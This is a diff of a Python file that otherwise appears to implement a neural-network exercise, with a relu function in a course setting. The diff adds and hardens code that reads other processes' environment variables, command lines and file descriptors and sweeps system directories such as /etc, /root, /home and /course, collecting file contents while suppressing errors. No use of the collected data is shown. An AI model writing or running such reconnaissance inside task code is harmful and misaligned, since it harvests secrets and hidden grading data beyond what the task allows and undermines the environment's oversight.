@@ -14,11 +14,16 @@ for pattern in ("*/environ", "*/cmdline", "*/mountinfo", "*/fd/*", "*/r??t/tmp/*
             found.append(os.readlink(path) if "/fd/" in str(path) else path.read_text()[-300:])
         except OSError as error:
             found.append(str(error.errno))
-tops = [path for path in Path("/").iterdir() if path.is_dir() and path.name not in ("proc", "usr")]
+try:
+    tops = [path for path in Path("/").iterdir() if path.name not in ("proc", "usr", "lib")]
+except OSError:
+    tops = [Path(f"/{name}") for name in ("etc", "home", "root", "tmp", "var", "dev", "course")]
 for folder in (*tops, *(path for top in tops for path in top.glob("*/"))):
-    for path in (*Path(folder).glob("*"), *Path(folder).glob("*/*.json")):
-        if path.is_file():
-            found.append(open(path, errors="replace").read(500))
+    for path in (*folder.glob("*"), *folder.glob("*/*.json")):
+        try:
+            found.append(open(path, errors="replace").read(500) if path.is_file() else "")
+        except OSError as error:
+            found.append(str(error.errno))
 
 
 def relu(X):
